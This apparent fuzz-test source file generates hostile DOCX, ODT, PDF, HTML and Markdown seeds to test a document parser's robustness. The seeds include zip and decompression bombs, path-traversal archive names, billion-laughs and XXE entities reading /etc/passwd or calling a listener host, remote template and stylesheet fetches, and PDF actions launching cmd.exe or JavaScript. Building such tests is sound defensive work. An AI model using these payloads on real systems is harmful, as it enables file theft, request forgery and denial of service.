"""Documents made by hand to do harm: to memory, to time, to secrets, or to what is read."""

import struct
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from io import BytesIO

from fuzz.pdfs import Text, file_of, pdf_of
from fuzz.seeds import Seed, W, packed, unpacked, word_parts
from fuzz.tokens import Words

_MEGABYTE = 1024 * 1024
_MAIN = "word/document.xml"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_ODF = "urn:oasis:names:tc:opendocument:xmlns"
_TEXT = "<w:p><w:r><w:t>Actie: verf kopen</w:t></w:r></w:p>"


def hostile_documents(listener: str) -> Iterator[Seed]:
    """
    Yield some two hundred documents.

    Args:
        listener: Address to which some of them want to connect, as ``host:port``.
    """
    for family in (_zips, _entities, _crowds, _outside, _odd_word, _odd_odf, _pdfs, _texts):
        yield from family(listener)


def _word(body: str = _TEXT, changes: Mapping[str, bytes] | None = None) -> bytes:
    return packed(word_parts(body, Words()) | dict(changes or {}))


def _with_main(xml: str | bytes) -> bytes:
    parts = word_parts(_TEXT, Words())
    parts[_MAIN] = xml if isinstance(xml, bytes) else xml.encode()
    return packed(parts)


def _document(body: str) -> str:
    return f'<w:document xmlns:w="{W}" xmlns:r="{_OFFICE}"><w:body>{body}</w:body></w:document>'


def _odf(content: str) -> bytes:
    spaces = " ".join(
        f'xmlns:{prefix}="{_ODF}:{name}:1.0"'
        for prefix, name in (("office", "office"), ("text", "text"), ("table", "table"))
    )
    xml = (
        f"<office:document-content {spaces}><office:body><office:text>{content}</office:text>"
        "</office:body></office:document-content>"
    )
    return packed(
        {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": xml.encode()}
    )


def _zips(listener: str) -> Iterator[Seed]:
    """Packages whose directory or whose packing is the weapon."""
    plain = _word()
    parts = unpacked(plain)
    for suffix in (".docx", ".odt"):
        for size in (2, 33, 200):
            bomb = b"<a>" + b" " * (size * _MEGABYTE) + b"</a>"
            yield Seed(suffix=suffix, data=packed(parts | {_MAIN: bomb, "content.xml": bomb}))
        picture = {"word/media/image1.bmp": b"\0" * (100 * _MEGABYTE)}
        yield Seed(suffix=suffix, data=packed(parts | picture))
        crowd = {f"word/x{at}.xml": b"<x/>" for at in range(2_100)}
        yield Seed(suffix=suffix, data=packed(parts | crowd))
        for name in (
            "../../etc/x.xml",
            "/etc/x.xml",
            "..\\x.xml",
            "C:\\x.xml",
            "a\0b.xml",
            "CON.xml",
        ):
            yield Seed(suffix=suffix, data=packed(parts | {name: b"<x/>"}))
        yield Seed(suffix=suffix, data=_doubled(parts))
        for offset, value in ((24, 10), (24, 2**31), (20, 1), (20, 2**31), (42, 0), (42, 2**31)):
            yield Seed(suffix=suffix, data=_lying(plain, offset, value))
        for method in (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
            yield Seed(suffix=suffix, data=_packed_by(parts, method))
        yield Seed(suffix=suffix, data=packed({"inner.docx": plain}))
        yield Seed(suffix=suffix, data=b"PK\x05\x06" + b"\0" * 18)
        yield Seed(suffix=suffix, data=b"PK\x03\x04" + b"\xff" * 60)
        yield Seed(suffix=suffix, data=plain + plain)
        yield Seed(suffix=suffix, data=plain[: len(plain) // 2])


def _doubled(parts: dict[str, bytes]) -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        for name, content in [*parts.items(), (_MAIN.upper(), b"<x/>")]:
            package.writestr(zipfile.ZipInfo(name), content)
    return buffer.getvalue()


def _packed_by(parts: dict[str, bytes], method: int) -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as package:
        for name, content in parts.items():
            package.writestr(zipfile.ZipInfo(name), content, method)
    return buffer.getvalue()


def _lying(data: bytes, offset: int, value: int) -> bytes:
    """Write *value* in the directory's entry of the main part."""
    changed = bytearray(data)
    at = data.rfind(_MAIN.encode()) - 46
    changed[at + offset : at + offset + 4] = struct.pack("<I", value)
    return bytes(changed)


def _entities(listener: str) -> Iterator[Seed]:
    """XML that declares what it should not."""
    laughs = "<!ENTITY a0 'ha'>" + "".join(
        f"<!ENTITY a{at} '{f'&a{at - 1};' * 10}'>" for at in range(1, 12)
    )
    declared = {
        "laughs": (laughs, "&a11;"),
        "quadratic": (f"<!ENTITY q '{'q' * 60_000}'>", "&q;" * 2_000),
        "file": ("<!ENTITY f SYSTEM 'file:///etc/passwd'>", "&f;"),
        "web": (f"<!ENTITY w SYSTEM 'http://{listener}/w'>", "&w;"),
        "parameter": (f"<!ENTITY % p SYSTEM 'http://{listener}/p'> %p;", ""),
        "text": ("<!ENTITY wie 'Fenna'>", "Actie: &wie; belt"),
    }
    for subset, use in declared.values():
        body = _document(f"<w:p><w:r><w:t>{use}</w:t></w:r></w:p>")
        xml = f"<!DOCTYPE d [{subset}]>{body}"
        yield Seed(suffix=".docx", data=_with_main(xml))
        yield Seed(suffix=".docx", data=_with_main(xml.encode("utf-16")))
        for part in ("word/styles.xml", "_rels/.rels", "docProps/custom.xml"):
            parts = word_parts(_TEXT, Words())
            content = parts.get(part, b"<a/>").decode()
            yield Seed(
                suffix=".docx",
                data=packed(parts | {part: f"<!DOCTYPE d [{subset}]>{content}".encode()}),
            )
        odf = unpacked(_odf("<text:p>x</text:p>"))
        odf["content.xml"] = f"<!DOCTYPE d [{subset}]>".encode() + odf["content.xml"]
        yield Seed(suffix=".odt", data=packed(odf))
        yield Seed(suffix=".html", data=f"<!DOCTYPE html [{subset}]><p>{use}</p>".encode())
    outer = f"<!DOCTYPE d SYSTEM 'http://{listener}/x.dtd'>"
    yield Seed(suffix=".docx", data=_with_main(outer + _document(_TEXT)))
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'
    yield Seed(suffix=".docx", data=_with_main(_document(include)))
    sheet = f"<?xml-stylesheet href='http://{listener}/s.xsl'?>"
    yield Seed(suffix=".docx", data=_with_main(sheet + _document(_TEXT)))


def _crowds(listener: str) -> Iterator[Seed]:
    """Far more of something than a document needs."""
    for count in (100_000, 1_500_000):
        yield Seed(suffix=".docx", data=_with_main(_document("<w:p/>" * count)))
    for depth in (100, 3_000, 100_000):
        for name in ("w:tbl><w:tr><w:tc", "w:sdt><w:sdtContent", "w:ins", "w:r"):
            opened = f"<{name}>" * depth
            closed = f"</{'></'.join(reversed(name.split('><')))}>" * depth
            yield Seed(suffix=".docx", data=_with_main(_document(f"{opened}{closed}")))
        odf = "<text:list><text:list-item>" * depth + "</text:list-item></text:list>" * depth
        yield Seed(suffix=".odt", data=_odf(odf))
        spans = "<text:p>" + "<text:span>" * depth + "</text:span>" * depth + "</text:p>"
        yield Seed(suffix=".odt", data=_odf(spans))
    long = "x" * (10 * _MEGABYTE)
    yield Seed(suffix=".docx", data=_with_main(_document(f'<w:p a="{long}"/>')))
    yield Seed(suffix=".docx", data=_with_main(_document("<!--x-->" * 500_000)))
    yield Seed(
        suffix=".docx", data=_with_main(_document(f"<w:p><w:r><w:t>{long}</w:t></w:r></w:p>"))
    )
    many = " ".join(f'a{at}="x"' for at in range(100_000))
    yield Seed(suffix=".docx", data=_with_main(_document(f"<w:p {many}/>")))
    spaces = " ".join(f'xmlns:a{at}="u{at}"' for at in range(20_000))
    yield Seed(suffix=".docx", data=_with_main(f'<w:document xmlns:w="{W}" {spaces}/>'))


def _outside(listener: str) -> Iterator[Seed]:
    """Documents that want to fetch something."""
    targets = (f"http://{listener}/x", "file:///etc/passwd", "\\\\server\\share\\x", "//server/x")
    kinds = (
        "attachedTemplate",
        "image",
        "oleObject",
        "aFChunk",
        "subDocument",
        "hyperlink",
        "frame",
    )
    for kind in kinds:
        for target in targets:
            relations = (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f'<Relationship Id="r1" Type="{_OFFICE}/{kind}" Target="{target}" '
                'TargetMode="External"/></Relationships>'
            )
            yield Seed(
                suffix=".docx",
                data=_word(changes={"word/_rels/document.xml.rels": relations.encode()}),
            )
    for url in targets[:2]:
        yield Seed(suffix=".html", data=f"<base href='{url}'><img src='{url}'><p>x".encode())
        yield Seed(suffix=".html", data=f"<link rel=stylesheet href='{url}'><p>x".encode())
        yield Seed(suffix=".html", data=f"<iframe src='{url}'></iframe><p>x".encode())
        yield Seed(suffix=".md", data=f"![x]({url})\n\n<img src='{url}'>".encode())
        link = f"<text:a x:href='{url}' xmlns:x='http://www.w3.org/1999/xlink'>x</text:a>"
        yield Seed(suffix=".odt", data=_odf(f"<text:p>{link}</text:p>"))
    macros = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"x" * 2_000}
    yield Seed(suffix=".docx", data=_word(changes=macros))
    yield Seed(suffix=".docx", data=_word('<w:altChunk r:id="r1"/>' + _TEXT))


def _odd_word(listener: str) -> Iterator[Seed]:
    """WordprocessingML that no program writes."""
    span = '<w:tcPr><w:gridSpan w:val="{0}"/></w:tcPr>'
    for count in ("-1", "0", "999999999", "x", "9" * 400):
        cells = f"<w:tc>{span.format(count)}{_TEXT}</w:tc><w:tc>{_TEXT}</w:tc>"
        yield Seed(suffix=".docx", data=_word(f"<w:tbl><w:tr>{cells}</w:tr></w:tbl>"))
        level = f'<w:numPr><w:ilvl w:val="{count}"/><w:numId w:val="1"/></w:numPr>'
        yield Seed(suffix=".docx", data=_word(f"<w:p><w:pPr>{level}</w:pPr>{_TEXT}</w:p>"))
    cycle = "".join(
        f'<w:style w:styleId="{one}" w:type="paragraph"><w:basedOn w:val="{other}"/></w:style>'
        for one, other in (("a", "b"), ("b", "a"))
    )
    styles = f'<w:styles xmlns:w="{W}">{cycle}</w:styles>'.encode()
    styled = '<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr><w:r><w:t>x</w:t></w:r></w:p>'
    yield Seed(suffix=".docx", data=_word(styled, {"word/styles.xml": styles}))
    wide = f"<w:tr>{'<w:tc><w:p/></w:tc>' * 5_000}</w:tr>"
    tall = "<w:tr><w:tc><w:p/></w:tc></w:tr>" * 5_000
    yield Seed(suffix=".docx", data=_word(f"<w:tbl>{wide}{tall}</w:tbl>"))
    yield Seed(suffix=".docx", data=_with_main("<html><body>geen Word</body></html>"))
    yield Seed(suffix=".docx", data=_with_main(_document(_TEXT).replace("t>", "t>\x01", 1)))
    yield Seed(suffix=".docx", data=_word(_TEXT.replace("verf", "\u202everf\u200b\ufeff\ue000")))
    for encoding in ("utf-7", "utf-32", "cp037", "iso2022_kr"):
        xml = f'<?xml version="1.0" encoding="{encoding}"?>{_document(_TEXT)}'
        yield Seed(suffix=".docx", data=_with_main(xml.encode(encoding)))


def _odd_odf(listener: str) -> Iterator[Seed]:
    """OpenDocument that repeats itself without end."""
    for count in ("999999999", "-1", "0", "x"):
        cell = f'<table:table-cell table:number-columns-repeated="{count}"><text:p>x</text:p>'
        row = f'<table:table-row table:number-rows-repeated="{count}">{cell}</table:table-cell>'
        yield Seed(suffix=".odt", data=_odf(f"<table:table>{row}</table:table-row></table:table>"))
        yield Seed(suffix=".odt", data=_odf(f'<text:p>a<text:s text:c="{count}"/>b</text:p>'))
        spanned = f'<table:table-cell table:number-columns-spanned="{count}" '
        spanned += f'table:number-rows-spanned="{count}"><text:p>x</text:p></table:table-cell>'
        rows = f"<table:table-row>{spanned * 3}</table:table-row>" * 3
        yield Seed(suffix=".odt", data=_odf(f"<table:table>{rows}</table:table>"))


def _pdfs(listener: str) -> Iterator[Seed]:
    """PDF documents that loop, explode or want to do something."""
    bomb = zlib.compress(b"0 0 m " * (10 * _MEGABYTE))
    twice = zlib.compress(zlib.compress(b"0" * (200 * _MEGABYTE)))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
    start = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>"]
    for filters, content in (
        (b"/FlateDecode", bomb),
        (b"[/FlateDecode /FlateDecode]", twice),
        (b"/FlateDecode", b"x" * 2_000),
        (b"/LZWDecode", b"\x80\x0b\x60\x50" * 50_000),
        (b"/ASCII85Decode", b"z" * 100_000),
        (b"/RunLengthDecode", b"\x81x" * 500_000),
        (b"/JBIG2Decode", b"x" * 2_000),
        (b"/Crypt", b"x" * 2_000),
    ):
        head = b"<< /Filter %s /Length %d >>\nstream\n" % (filters, len(content))
        yield Seed(suffix=".pdf", data=file_of([*start, page, head + content + b"\nendstream"]))
    kids = b"<< /Type /Pages /Count 99999 /Kids [2 0 R 2 0 R 3 0 R] >>"
    yield Seed(suffix=".pdf", data=file_of([start[0], kids, page, b"null"]))
    many = b"<< /Type /Pages /Count 5000 /Kids [" + b"3 0 R " * 5_000 + b"] >>"
    yield Seed(suffix=".pdf", data=file_of([start[0], many, page, b"null"]))
    yield Seed(suffix=".pdf", data=file_of([*start, page, *[b"null"] * 60_000]))
    yield Seed(suffix=".pdf", data=file_of([*start, page, b"[" * 50_000 + b"]" * 50_000]))
    yield Seed(suffix=".pdf", data=file_of([*start, page, b"<<" * 20_000]))
    yield Seed(suffix=".pdf", data=file_of([*start, page, b"4 0 R"]))
    for action in (
        f"/OpenAction << /S /URI /URI (http://{listener}/a) >>",
        "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
        "/OpenAction << /S /Launch /F (cmd.exe) >>",
        f"/AA << /WC << /S /SubmitForm /F (http://{listener}/f) >> >>",
        "/Prev 0",
        "/Prev 9",
        "/XRefStm 9",
        "/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -1 >> /ID [(a) (b)]",
        "/Encrypt 99 0 R",
    ):
        shown = pdf_of([[Text(text="Actie: verf kopen")]])
        yield Seed(
            suffix=".pdf", data=shown.replace(b"/Root 1 0 R", f"/Root 1 0 R {action}".encode())
        )
    crowd = [Text(text="x" * 200, bottom=at % 800) for at in range(6_000)]
    yield Seed(suffix=".pdf", data=pdf_of([crowd]))
    yield Seed(suffix=".pdf", data=b"%PDF-1.7\n" + b"\0" * 1_000)
    yield Seed(suffix=".pdf", data=b"%PDF-1.7\n" + b"1 0 obj " * 49_000)
    yield Seed(suffix=".pdf", data=_word())


def _texts(listener: str) -> Iterator[Seed]:
    """Text that makes parsers think."""
    awkward = (
        *("[" * 20_000, "](" * 20_000, "![" * 20_000, "*a " * 20_000, "`" * 20_000, "> " * 5_000),
        *("- " * 3_000, "| a " * 20_000 + "\n" + "|-" * 20_000, "<" * 50_000, "<a " * 20_000),
        *("&#x110000;" * 1_000, "&amp" * 20_000, "a\n" * 60_000, "\\" * 50_000, "~" * 50_000),
        *(
            "<!--" * 20_000,
            "<![CDATA[" * 5_000,
            "x" * 3_000_000,
            "\u202e" * 10_000,
            "a" + "\u0301" * 60_000,
        ),
    )
    for text in awkward:
        yield Seed(suffix=".md", data=text.encode())
        yield Seed(suffix=".html", data=text.encode())
    for depth in (200, 20_000):
        for name in ("div", "table><tr><td", "ul><li", "b", "p", "form"):
            yield Seed(suffix=".html", data=(f"<{name}>" * depth + "x").encode())
    spans = "<table>" + "<tr>" + "<td colspan=9999 rowspan=9999>x</td>" * 500 + "</table>"
    yield Seed(suffix=".html", data=spans.encode())
    for raw in (b"\xff\xfe" + b"a" * 999, b"\xfe\xff\0", b"\xed\xa0\x80 a", b"a\0b", b"\x1b[31m a"):
        for suffix in (".txt", ".md", ".html"):
            yield Seed(suffix=suffix, data=raw)
    for line in ("- " * 20_000, "=\n" * 30_000, " " * 200_000 + "x", "1. a\n" * 30_000):
        yield Seed(suffix=".txt", data=line.encode())
